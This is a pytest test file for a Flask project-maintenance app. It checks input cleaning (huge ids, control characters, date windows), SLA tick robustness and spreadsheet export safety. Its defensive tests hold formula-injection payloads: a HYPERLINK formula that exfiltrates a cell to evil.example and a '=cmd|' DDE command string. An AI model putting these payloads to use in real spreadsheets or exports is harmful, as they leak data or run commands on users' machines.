"""One input-cleaning place (core.cleaning), proved through the real surfaces on SQLite and
PostgreSQL: huge ids answer 404 on every route with an id, control characters in the path,
query, JSON and forms are refused (never a 500 from PostgreSQL), dates outside the contract
window are 400 `invalid_date`, datetimes always carry a ±HH:MM offset, a project with an
old maintenance_start can neither break the pages nor `flask sla tick`, and spreadsheets
never turn user text into formulas (core.spreadsheet_safe)."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime, timedelta, timezone

import pytest
from sqlalchemy import func, select

from core import db
from actions import worker_ticks
from maintenance_support import set_project
from web_support import login, page_token

ISO_OFFSET = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d([+-]\d\d:\d\d|Z)$")
RULE_ARG = re.compile(r"<(?:(\w+)(?:\([^)]*\))?:)?(\w+)>")
OTHER_ARGS = {"code": "P1", "username": "pm", "fmt": "xlsx"}
HUGE = [str(2**31), str(2**63), "1" + "0" * 30, "9" * 5000]


def _id_routes(app) -> list[tuple[str, str, str]]:
    """(method, rule, endpoint) of every route with an integer (id) argument, from the URL map."""
    out = []
    for rule in app.url_map.iter_rules():
        if not any(conv in ("int", "id") for conv, _ in RULE_ARG.findall(rule.rule)):
            continue
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            out.append((method, rule.rule, rule.endpoint))
    return out


def _fill(rule: str, value: str) -> str:
    def one(m):
        conv, name = m.group(1), m.group(2)
        return value if conv in ("int", "id") else OTHER_ARGS.get(name, "x")
    return RULE_ARG.sub(one, rule)


# ---------------------------------------------------------------- ids ----------------------

@pytest.mark.parametrize("value", HUGE + [str(2**31 - 1)], ids=["2^31", "2^63", "10^30", "5000-digits", "2^31-1"])
def test_ids_beyond_the_database_range_answer_404_on_every_route(app, client, world, value):
    routes = _id_routes(app)
    endpoints = {e for _, _, e in routes}
    # the list really is the route table: API and pages, reads and writes
    assert {"api.get_deliverable", "api.get_fault", "api.sign_version", "web.deliverable_page",
            "web.fault_page", "web.preview_page"} <= endpoints
    assert any(m == "POST" for m, _, _ in routes)
    token = login(client, "admin")
    token = page_token(client, "/")
    wrong = []
    for method, rule, _ in routes:
        path = _fill(rule, value)
        if rule.startswith("/api/"):
            r = client.open(path, method=method, headers=world.h("admin"))
            ok = r.status_code == 404 and r.is_json and set(r.json) == {"error"}
        else:
            r = client.open(path, method=method, headers={"X-CSRFToken": token})
            ok = r.status_code == 404 and "Traceback" not in r.get_data(as_text=True)
        if not ok:
            wrong.append((method, rule, r.status_code))
    assert wrong == []


def test_ids_in_query_strings_and_bodies_use_the_same_bound(app):
    from core.cleaning import DB_ID_MAX, check_id
    from core.errors import NotFound, UserValueError
    with app.test_request_context("/api/x?against=99999999999999999999"):
        from api import inputs
        with pytest.raises(NotFound):
            inputs.query_id("against")
        with pytest.raises(NotFound):
            inputs.id_field({"deliverable_id": 2**63}, "deliverable_id")
        with pytest.raises(UserValueError):
            inputs.id_field({"deliverable_id": "12a"}, "deliverable_id")
        with pytest.raises(UserValueError):
            inputs.id_field({"deliverable_id": True}, "deliverable_id")
    assert check_id(str(DB_ID_MAX), "x") == DB_ID_MAX


# ---------------------------------------------------------------- text ---------------------

@pytest.mark.parametrize("path", ["/api/projects/P%00A", "/api/projects/P1%00/faults", "/api/projects/P1/members/pm%00",
                                  "/api/projects/P%01A/records", "/api/users/a%00/token"])
def test_control_characters_in_api_paths_answer_404(client, world, path):
    r = client.get(path, headers=world.h("admin"))
    assert r.status_code == 404 and r.json["error"]["code"] == "not_found"
    r = client.post(path, json={}, headers=world.h("admin"))
    assert r.status_code in (404, 405) and "error" in r.json


@pytest.mark.parametrize("query", ["q=a%00b", "q=a&project=P1%00", "q=a&document=x%00", "q=a&phase=%00",
                                   "q=a&status=%1b", "q=%00&limit=1", "q=a&x%00=1"])
def test_control_characters_in_search_filters_answer_400(client, world, query):
    r = client.get(f"/api/search?{query}", headers=world.h("pm"))
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_text"


@pytest.mark.parametrize("path,body", [
    ("/api/projects/P1/faults", {"level": 3, "channel": "phone", "title": "门禁\x00故障"}),
    ("/api/projects/P1/faults", {"level": 3, "channel": "phone", "title": "门禁故障", "description": "a\x00b"}),
    ("/api/projects/P1/faults", {"level": 3, "channel": "phone", "title": "门禁\n故障"}),  # single-line field
    ("/api/projects/P1/faults", {"level": 3, "channel": "phone", "title": "a\x85b"}),     # C1 control
    ("/api/projects/P1/members", {"username": "pm\x00"}),
    ("/api/projects/P1/records", {"record_key": "complaint_form", "title": "投诉\x00"}),
    ("/api/projects", {"code": "NEW", "name": "a\x00b", "client": "c"}),
    ("/api/projects", {"code": "NEW", "name": "n", "client": "c", "description": "\x00"}),
    ("/api/users", {"username": "neo", "role": "pm", "display_name": "N\x00"}),
])
def test_control_characters_in_json_fields_answer_400(client, world, path, body):
    r = client.post(path, json=body, headers=world.h("admin"))
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_text", r.json


def test_a_lone_surrogate_in_json_answers_400(client, world):
    raw = b'{"level": 3, "channel": "phone", "title": "a\\ud800b"}'  # valid JSON, not storable text
    r = client.post("/api/projects/P1/faults", data=raw, headers=world.h("pm") | {"Content-Type": "application/json"})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_text"


def test_multiline_fields_keep_tabs_and_line_breaks(client, world):
    r = client.post("/api/projects/P1/faults", headers=world.h("pm"),
                    json={"level": 3, "channel": "phone", "title": "门禁故障", "description": "一\n二\r\n\t三"})
    assert r.status_code == 201 and r.json["description"] == "一\n二\r\n\t三"
    r = client.post(f"/api/faults/{r.json['id']}/events", headers=world.h("pm"), json={"kind": "note", "note": "a\x00"})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_text"
    r = client.patch("/api/projects/P1", headers=world.h("admin"), json={"name": "a\x07b"})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_text"


def _fault_count(app) -> int:
    from maintenance.models import Fault
    with app.app_context():
        return db.session().scalar(select(func.count()).select_from(Fault))


def test_control_characters_in_pages_query_and_forms_are_refused(app, client, world):
    login(client, "admin")
    token = page_token(client, "/projects/P1/maintenance")
    assert client.get("/projects/P%00A").status_code == 404
    assert client.get("/search?q=a%00b").status_code == 400
    assert client.get("/search?q=a&project=P1%00").status_code == 400
    assert client.get("/projects/P1?phase=%00").status_code == 400
    r = client.post("/projects/P1/faults", data={"csrf_token": token, "level": "3", "channel": "phone",
                                                  "title": "门禁\x00故障"})
    assert r.status_code == 400 and "Traceback" not in r.get_data(as_text=True)
    r = client.post("/projects/P1/members", data={"csrf_token": token, "username": "pm\x00"})
    assert r.status_code == 400
    r = client.post("/admin/users", data={"csrf_token": token, "username": "neo", "role": "pm",
                                          "display_name": "\x00"})
    assert r.status_code == 400
    assert _fault_count(app) == 0
    # a multipart form (the upload's note) is checked by the field validator: nothing stored
    from deliverables.models import Version
    with app.app_context():
        from deliverables.models import Deliverable
        d_id = db.session().scalar(select(Deliverable.id).where(Deliverable.project_id == world.ids["P1"])
                                   .order_by(Deliverable.position))
    login(client, "engineer")
    token = page_token(client, f"/deliverables/{d_id}")
    r = client.post(f"/deliverables/{d_id}/upload", content_type="multipart/form-data",
                    headers={"X-CSRFToken": token, "X-Requested-With": "XMLHttpRequest"},
                    data={"file": (io.BytesIO(b"x"), "a.txt"), "note": "a\x00b"})
    assert r.status_code == 400
    with app.app_context():
        assert db.session().scalar(select(func.count()).select_from(Version)) == 0


# ---------------------------------------------------------------- dates --------------------

@pytest.mark.parametrize("value", ["0001-01-01", "1989-12-31", "2101-01-01", "9999-12-31"])
def test_project_dates_outside_the_contract_window_answer_400(client, world, value):
    for field in ("maintenance_start", "warranty_until"):
        r = client.post("/api/projects", headers=world.h("pm"),
                        json={"code": "NEW", "name": "n", "client": "c", field: value})
        assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date", r.json
        r = client.patch("/api/projects/P1", headers=world.h("admin"), json={field: value})
        assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date", r.json


def test_project_dates_at_the_window_edges_are_kept(client, world):
    r = client.post("/api/projects", headers=world.h("admin"), json={
        "code": "EDGE", "name": "n", "client": "c", "maintenance_start": "1990-01-01", "warranty_until": "2100-12-31"})
    assert r.status_code == 201
    assert (r.json["maintenance_start"], r.json["warranty_until"]) == ("1990-01-01", "2100-12-31")


def test_maintenance_start_year_one_is_refused_and_nothing_breaks(client, world, runner):
    """Finding 1 through the API: the request is a 400, the pages and the tick keep working."""
    r = client.post("/api/projects", headers=world.h("pm"),
                    json={"code": "OLD", "name": "n", "client": "c", "maintenance_start": "0001-01-01"})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date"
    assert client.get("/api/projects/OLD", headers=world.h("admin")).status_code == 404
    login(client, "admin")
    assert client.get("/").status_code == 200
    assert runner.invoke(args=["sla", "tick"]).exit_code == 0


@pytest.mark.parametrize("value", ["0371-01-21T05:33:47", "0001-01-01T00:00:00+08:00", "9999-12-31T23:59:59-08:00",
                                   "1989-12-31T23:59:59Z", "2101-01-01T00:00:00"])
def test_fault_times_outside_the_window_answer_400(client, world, value):
    r = client.post("/api/projects/P1/faults", headers=world.h("pm"),
                    json={"level": 3, "title": "门禁故障", "channel": "phone", "reported_at": value})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date", r.json
    f = client.post("/api/projects/P1/faults", headers=world.h("pm"),
                    json={"level": 3, "title": "门禁故障", "channel": "phone"}).json
    r = client.post(f"/api/faults/{f['id']}/events", headers=world.h("engineer"), json={"kind": "respond", "at": value})
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date", r.json


@pytest.mark.parametrize("path", ["/api/projects/P1/records?from=0001-01-01", "/api/projects/P1/records?to=9999-12-31",
                                  "/api/projects/P1/sla?from=1989-12-31", "/api/projects/P1/sla?to=2101-01-01"])
def test_date_filters_outside_the_window_answer_400(client, world, path):
    r = client.get(path, headers=world.h("pm"))
    assert r.status_code == 400 and r.json["error"]["code"] == "invalid_date"


def test_fault_form_with_a_time_outside_the_window_is_refused(app, client, world):
    login(client, "pm")
    token = page_token(client, "/projects/P1/maintenance")
    r = client.post("/projects/P1/faults", follow_redirects=True,
                    data={"csrf_token": token, "level": "3", "channel": "phone", "title": "门禁故障",
                          "reported_at": "0371-01-21T05:33"})
    assert "日期须在 1990-01-01 至 2100-12-31 之间" in r.get_data(as_text=True)
    assert _fault_count(app) == 0
    r = client.post("/projects/P1/faults", data={"csrf_token": token, "level": "3", "channel": "phone",
                                                  "title": "门禁故障", "reported_at": "2026-11-25T09:00"})
    assert r.status_code == 302 and _fault_count(app) == 1


def test_a_fault_stored_in_year_371_is_served_with_an_iso_offset(app, client, world):
    """Finding 6: the value is refused at the door now; one already stored still comes back
    with a readable ±HH:MM offset (not the +08:05:43 of local mean time)."""
    fid = client.post("/api/projects/P1/faults", headers=world.h("pm"),
                      json={"level": 4, "title": "门禁故障", "channel": "phone"}).json["id"]
    from maintenance.models import Fault
    with app.app_context():
        f = db.session().get(Fault, fid)
        f.reported_at = datetime(371, 1, 20, 21, 28, 4, tzinfo=timezone.utc)
        db.session().commit()
    r = client.get(f"/api/faults/{fid}", headers=world.h("pm"))
    assert r.status_code == 200
    assert r.json["reported_at"] == "0371-01-20T21:28:04+00:00"
    for key in ("reported_at", "respond_by", "restore_by"):
        assert ISO_OFFSET.match(r.json[key]), r.json[key]
    assert all(ISO_OFFSET.match(e["at"]) for e in r.json["escalations"])
    # a normal time keeps the local offset
    from core.clock import iso
    with app.app_context():
        assert iso(datetime(2026, 11, 25, 2, 0, tzinfo=timezone.utc)) == "2026-11-25T10:00:00+08:00"


# ------------------------------------------------- old maintenance_start and sla tick -----

def _records_count(app, project_id) -> int:
    from deliverables.models import Deliverable
    with app.app_context():
        return db.session().scalar(select(func.count()).select_from(Deliverable).where(
            Deliverable.project_id == project_id, Deliverable.kind == "record"))


@pytest.mark.parametrize("start", [date(2000, 1, 1), date(1, 1, 1)])
def test_an_old_maintenance_start_in_the_database_breaks_nothing(app, client, world, runner, clock, start):
    """Stored directly (older data, or before the window existed): the home page, the
    records page and the API answer, the work per call is bounded, and `flask sla tick`
    exits 0 and still escalates another project's fault."""
    set_project(app, "P2", maintenance_start=start)
    worker_ticks(app)  # time passes and the worker ticks: P2's instances, a bounded number of them
    fid = client.post("/api/projects/P1/faults", headers=world.h("client"),
                      json={"level": 4, "title": "门禁故障", "channel": "phone"}).json["id"]
    clock.advance(hours=50)  # P1's fault passes its restore deadline; nobody of P1 looks
    login(client, "pm2")  # sees P2 only, so P1's fault is left to the tick
    assert client.get("/").status_code == 200
    assert client.get("/projects/P2/maintenance").status_code == 200
    r = client.get("/api/projects/P2/records", headers=world.h("pm2"))
    assert r.status_code == 200 and all(ISO_OFFSET.match(i["due_at"]) for i in r.json if i["due_at"])
    created = _records_count(app, world.ids["P2"])
    assert 0 < created <= 2 * 106 + 26 + 1  # about two years of weekly and monthly periods, and the once record
    result = runner.invoke(args=["sla", "tick"])
    assert result.exit_code == 0, result.output
    assert f"escalated P1-F001 (fault {fid}) level 4 -> 3" in result.output
    from maintenance.models import Fault
    with app.app_context():
        assert db.session().get(Fault, fid).level < 4
    login(client, "admin")  # every project on one page
    assert client.get("/").status_code == 200


def test_sla_tick_isolates_a_failing_project(app, client, world, runner, clock, monkeypatch):
    """One project's failure is logged and named at the end (exit 1); every other project's
    escalations and records are still committed."""
    set_project(app, "P1", maintenance_start=date(2026, 11, 23))
    set_project(app, "P2", maintenance_start=date(2026, 11, 23))
    fid = client.post("/api/projects/P1/faults", headers=world.h("client"),
                      json={"level": 4, "title": "门禁故障", "channel": "phone"}).json["id"]
    clock.advance(hours=50)
    import maintenance.tick as tick
    real = tick.materialize

    def broken_for_p2(project):
        if project.code == "P2":
            real(project)  # writes, then fails: the savepoint must undo these rows
            raise RuntimeError("too many SQL variables")
        return real(project)
    monkeypatch.setattr(tick, "materialize", broken_for_p2)
    result = runner.invoke(args=["sla", "tick"])
    assert result.exit_code == 1
    assert "P2" in result.output.splitlines()[-1] and "too many SQL variables" in result.output
    assert f"escalated P1-F001 (fault {fid}) level 4 -> 3" in result.output
    assert "created 4 record instance(s) for P1" in result.output
    from maintenance.models import Fault
    with app.app_context():
        assert db.session().get(Fault, fid).level < 4
    assert _records_count(app, world.ids["P1"]) == 4 and _records_count(app, world.ids["P2"]) == 0


# ------------------------------------------------------------ spreadsheets ---------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A3,"点此")'


def test_xlsx_title_cell_is_text_not_a_formula(app, client, world):
    r = client.post("/api/projects", headers=world.h("admin"), json={"code": "XL", "name": FORMULA, "client": "+c"})
    assert r.status_code == 201
    login(client, "admin")
    r = client.get("/projects/XL/register.xlsx")
    assert r.status_code == 200
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(r.data)).active
    title = ws["A1"]
    assert title.data_type == "s" and title.value.startswith("=HYPERLINK(")
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    rows = list(csv.reader(io.StringIO(client.get("/projects/XL/register.csv").data.decode("utf-8-sig"))))
    assert rows[0][0] == "序号"


def test_manifest_csv_escapes_a_signer_named_like_a_formula(app, client, world, upload):
    from core.models import User
    with app.app_context():
        u = db.session().get(User, world.ids["pm"])  # the pm signs first: the cell starts with the name
        u.display_name = "=cmd|' /C calc'!A0"
        db.session().commit()
    ds = client.get("/api/projects/P1/deliverables", headers=world.h("pm")).json
    d = next(x for x in ds if x["document_key"] == "test_plan")
    v = upload(d["id"], b"plan", "plan.txt")
    for who in ("pm", "client"):
        r = client.post(f"/api/versions/{v['id']}/signoffs", json={"decision": "approve"}, headers=world.h(who))
        assert r.status_code == 201
    z = zipfile.ZipFile(io.BytesIO(client.get("/api/projects/P1/bundle", headers=world.h("client")).data))
    raw = z.read("MANIFEST.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert len(rows) == 1
    signed_by = rows[0]["signed_by"]
    assert signed_by.startswith("'=cmd|' /C calc'!A0 (pm")
    for line in raw.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value,expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                            ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a=1", "a=1"), (5, 5), ("", "")])
def test_neutralise(value, expected):
    from core.spreadsheet_safe import neutralise
    assert neutralise(value) == expected


def test_signer_first_in_manifest_is_escaped():
    """The MANIFEST writer on its own: a signed_by cell that starts with the signer's name."""
    from core.spreadsheet_safe import csv_bytes
    raw = csv_bytes([["path", "signed_by"], ["a/b.txt", "=cmd|' /C calc'!A0 (client approve)"]])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1][1] == "'=cmd|' /C calc'!A0 (client approve)" and raw.startswith(b"\xef\xbb\xbf")


def test_clock_iso_never_has_seconds_in_the_offset(app):
    from core.clock import iso
    with app.app_context():
        for dt in (datetime(1, 1, 1, tzinfo=timezone.utc), datetime(1900, 6, 1, tzinfo=timezone.utc),
                   datetime(2026, 11, 25, tzinfo=timezone.utc) + timedelta(microseconds=5)):
            assert ISO_OFFSET.match(iso(dt)), iso(dt)
